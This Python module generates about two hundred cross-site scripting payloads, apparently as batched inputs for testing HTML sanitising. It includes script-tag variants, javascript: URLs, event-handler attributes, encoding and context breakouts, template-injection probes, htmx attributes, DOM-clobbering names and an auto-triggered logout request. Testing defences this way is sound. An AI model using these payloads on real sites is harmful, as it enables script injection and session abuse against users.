"""What somebody would type to have a script run in another's browser. Each one calls ``alert``."""

DO = "alert(1)"
SHAPES = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script\n>{0}</script\t>", "<script/x>{0}</script>",
    "<script src=data:,{0}></script>", "<script src=//127.0.0.2/x.js></script>", "<scr<script>ipt>{0}</script>",
    "<script type=module>{0}</script>", "<script nonce=''>{0}</script>", "<svg><script>{0}</script></svg>",
    "<svg><script href=data:,{0} /></svg>", "<math><mtext><script>{0}</script></math>",
    "<iframe src=javascript:{0}></iframe>", "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data=javascript:{0}></object>", "<embed src=javascript:{0}>", "<base href=//127.0.0.2/>",
    "<a href=javascript:{0} autofocus>看</a>", "<a href='java\tscript:{0}'>看</a>", "<a href='&#106;avascript:{0}'>看</a>",
    "<form action=javascript:{0}><button>发</button></form>", "<button formaction=javascript:{0}>发</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href=//127.0.0.2/x.css>",
    "<style>@import '//127.0.0.2/x.css';</style>", "<style>*{{background:url(javascript:{0})}}</style>",
    "<p style='background:url(javascript:{0})'>", "<xmp><script>{0}</script></xmp>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>", "<plaintext><script>{0}</script>",
    "</textarea><script>{0}</script>", "</title><script>{0}</script>", "</style><script>{0}</script>", "</script><script>{0}</script>",
    "</details></main></body><script>{0}</script>", "--><script>{0}</script>", "<!--><script>{0}</script>", "]]><script>{0}</script>",
    "<![CDATA[<script>{0}</script>]]>", "<?xml version='1.0'?><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cscript\\x3e{0}", "＜script＞{0}＜/script＞", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    '"><script>{0}</script>', "'><script>{0}</script>", "`><script>{0}</script>", '\\"><script>{0}</script>',
    "';{0};//", '";{0};//', "`${{{0}}}`", "'-{0}-'", '"-{0}-"', "\\';{0}//", "</script>';{0}//", "{{{{{0}}}}}", "{{% debug %}}", "{{{{7*7}}}}",
    "${{{{{0}}}}}", "#{{{0}}}", "<%={0}%>", "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "data:text/html,<script>{0}</script>",
    "[看](javascript:{0})", "![x](javascript:{0})", "<javascript:{0}>", "[x]: javascript:{0}",
    "<div hx-get='/' hx-trigger=load>", "<div hx-on:load='{0}'>", "<div hx-on--load='{0}'>", "<div data-hx-vals='js:{0}'>", "<div _='on load {0}'>",
    "<div hx-get=//127.0.0.2/ hx-trigger=load>", "<output data-draft hx-post='/login/logout/' hx-trigger=load></output>",
    "<template id=marking-stop><script>{0}</script></template>", "<div id=main><script>{0}</script></div>", "<input name=csrfmiddlewaretoken>",
    "<img name=forms><img name=body>", "<form id=getElementById><input name=content>", "<select data-select data-select-url=//127.0.0.2/>",
    "<figure data-chart='{{\"kind\":\"bars\"}}'></figure>", "<ol data-tree><li onclick={0}></ol>", "<svg><use href='data:image/svg+xml,<svg id=x onload={0}/>#x'/></svg>",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "iframe",
    "select autofocus", "textarea autofocus", "object data=x", "embed src=x", "style", "a href=# autofocus tabindex=1",
    "math", "image src=x", "p style=animation:x", "button autofocus", "dialog open",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")


def payloads() -> list[str]:
    shaped = [shape.format(DO) for shape in SHAPES]
    handled = [f"<{tag} {handler}={DO}>" for tag in TAGS for handler in HANDLERS]
    broken = [f"{quote} {handler}={DO} x={quote}" for quote in "\"'`" for handler in HANDLERS]
    return [
        *shaped,
        *handled,
        *broken,
        f"<img src=x onerror\0={DO}>".replace("\0", ""),
        f"<img/src=x/onerror={DO}//",
    ]


def batches(size: int) -> list[list[str]]:
    every = payloads()
    return [every[at : at + size] for at in range(0, len(every), size)]
